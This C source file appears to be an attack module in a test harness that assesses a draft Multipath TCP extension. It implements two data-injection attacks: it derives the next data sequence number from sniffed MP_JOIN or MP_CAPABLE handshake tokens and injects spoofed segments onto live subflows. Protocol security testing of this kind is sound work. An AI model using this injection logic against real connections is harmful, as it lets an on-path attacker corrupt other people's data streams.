/* SPDX-License-Identifier: MIT */
/*
 * AT-36: a SYN with MP_JOIN shows the token of who receives it, and where the
 * initial data sequence number follows from that token (D-05) the attacker
 * knows the number of the next octet of an end that has written nothing yet. It
 * puts octets of its own there, on the subflow whose SYN it saw, without ever
 * having seen a segment with data.
 *
 * AT-47: who saw MP_CAPABLE knows what the initial numbers follow from under
 * every rule, of one identifier or of both. It tries them one behind the other
 * on the same subflow, the first of the connection or one whose SYN it saw.
 */
#include "atk_flows.h"
#include "atk_handshake.h"
#include "atk_table.h"
#include "mpx_csum.h"
#include "mpx_tcp.h"

#include <string.h>

enum { SIZE, VOLUME, STEP };
enum { MSS = 1000 };
#define PACE UINT64_C(2000000) /* ns */
static const struct atk_param params[] = {
    [SIZE] = {"size", ATK_P_SIZE, .initial = 1000, .min = 1, .max = 64000},
    [VOLUME] = {"volume", ATK_P_SIZE, .initial = 3000000, .max = 1000000000},
    [STEP] = {"step", ATK_P_SIZE, .initial = 10000, .min = 1,
              .max = 1000000000},
    {.name = NULL},
};

struct state {
    struct atk_flows flows;
    struct atk_handshakes handshakes; /* of AT-47 */
    uint64_t tried; /* octets that the other end may have sent */
};

/* Of who has that token or key, by the rule of a profile. */
static uint64_t compute_first_dsn(const char *profile, uint64_t id,
                                  uint64_t peer)
{
    struct mpx_identity of;

    mpx_auth_identity(&of, mpx_profile_find(profile), id, peer);
    return of.idsn + 1;
}

/* @p at: the octet of the attacker's stream that is the first of @p dsn;
 * @p place: of the subflow, after the SYN. */
static void inject_segment(struct atk *a, const struct atk_watched *f,
                           uint64_t dsn, uint64_t at, uint64_t place,
                           uint64_t now)
{
    uint64_t left = atk_param(a, SIZE) - at;
    uint16_t len = left < MSS ? (uint16_t)left : MSS;
    struct mpx_opt o = {.subtype = MPX_SUB_DSS};
    struct atk_opts opts = {0};
    uint8_t octets[MSS];

    atk_payload(a, at, octets, len);
    o.u.dss.has_map = o.u.dss.dsn8 = true;
    o.u.dss.dsn = dsn + at;
    o.u.dss.ssn = (uint32_t)(place + at) + 1;
    o.u.dss.dll = len;
    atk_opts_add(&opts, &o);
    atk_flows_inject(a, f, 1, MPX_TCP_ACK, &opts, octets, len, now);
}

static void inject_octets(struct atk *a, const struct atk_watched *f,
                          uint64_t dsn, uint64_t place, uint64_t sent,
                          uint64_t now)
{
    struct atk_watched guess = *f;
    struct atk_way *w = &guess.way[1];

    w->ack = f->way[1].ack + (uint32_t)sent;
    for (uint64_t at = 0; at < atk_param(a, SIZE); at += MSS) {
        w->next = f->way[1].next + (uint32_t)(place + at);
        inject_segment(a, &guess, dsn, at, place, now);
    }
}

static uint64_t spoil_id(struct atk *a, uint64_t id)
{
    uint8_t b[8];

    mpx_put32(b, (uint32_t)(id >> 32));
    mpx_put32(b + 4, (uint32_t)id);
    atk_spoil(a, b, sizeof b);
    return (uint64_t)mpx_get32(b) << 32 | mpx_get32(b + 4);
}

static void arm_next(struct atk *a, struct state *st, uint64_t now)
{
    st->tried += atk_param(a, STEP);
    if (st->tried <= atk_param(a, VOLUME))
        atk_set_timer(a, now + PACE);
}

/* One guess for each subflow at a time: the path's queue is short. Tokens of
 * that length are those of two profiles, and of nobody else. */
static void inject_by_token(struct atk *a, void *state, uint64_t now)
{
    struct state *st = state;

    for (unsigned i = 0; i < st->flows.n; i++) {
        const struct mpx_opt_join *j = &st->flows.v[i].way[0].join;

        if (atk_flows_live(&st->flows.v[i]) && j->token_len)
            inject_octets(
                a, &st->flows.v[i],
                compute_first_dsn(j->token_len == 8 ? "paasch" : "baerts",
                                  spoil_id(a, j->token), 0),
                0, st->tried, now);
    }
    arm_next(a, st, now);
}

/* ---- with the handshake ---- */

static enum atk_verdict on_segment(struct atk *a, void *state,
                                   const struct atk_segment *s, uint64_t now)
{
    struct state *st = state;

    (void)a;
    atk_flows_note(a, &st->flows, s, now);
    atk_handshakes_note(a, &st->handshakes, s);
    return ATK_PASS;
}

static const struct atk_handshake *find_connection(const struct state *st,
                                                   const struct atk_watched *f)
{
    if (f->join)
        return atk_handshakes_find(&st->handshakes, f->way[0].join.token);
    for (unsigned i = 0; i < st->handshakes.n; i++)
        if (atk_ends_equal(&st->handshakes.v[i].ends, &f->ends))
            return &st->handshakes.v[i];
    return NULL;
}

/* One rule where the bits leave no choice, else two. */
static void inject_by_rules(struct atk *a, const struct atk_watched *f,
                            const struct atk_handshake *h, uint64_t sent,
                            uint64_t now)
{
    const char *const rules[] = {
        h->profile->name, h->profile->mode == MPX_CAP_E ? "hardened" : NULL};
    uint64_t id = spoil_id(a, h->id[MPX_ROLE_R]);

    for (unsigned r = 0; r < 2 && rules[r]; r++)
        inject_octets(a, f, compute_first_dsn(rules[r], id, h->id[MPX_ROLE_I]),
                      r * atk_param(a, SIZE), sent, now);
}

static void inject_by_handshake(struct atk *a, void *state, uint64_t now)
{
    struct state *st = state;

    for (unsigned i = 0; i < st->flows.n; i++) {
        const struct atk_watched *f = &st->flows.v[i];
        const struct atk_handshake *h = find_connection(st, f);

        if (h && atk_flows_live(f))
            inject_by_rules(a, f, h, st->tried, now);
    }
    arm_next(a, st, now);
}

#define INJECTS                                                                \
    .powers = ATK_READ | ATK_INJECT, .params = params, .spoils = true,         \
    .state_size = sizeof(struct state)

const struct atk_ops atk_dsn_infer = {
    .name = "infer-dsn",
    .id = "AT-36",
    .does = "computes the data sequence number of the next octet from a token "
            "that it sniffed, and injects octets there",
    .source = "draft-baerts-tcpm-mptcpext-00 section 4.1, D-05",
    .on_segment = atk_flows_watch,
    .on_start = inject_by_token,
    .on_timer = inject_by_token,
    INJECTS,
};
const struct atk_ops atk_dsn_sniffed = {
    .name = "inject-sniffed-tokens",
    .id = "AT-47",
    .does = "injects octets at the data sequence number that follows from "
            "both tokens of the handshake",
    .source = "draft-baerts-tcpm-mptcpext-00 section 4.1, RFC 8684 section 3.1",
    .on_segment = on_segment,
    .on_start = inject_by_handshake,
    .on_timer = inject_by_handshake,
    INJECTS,
};
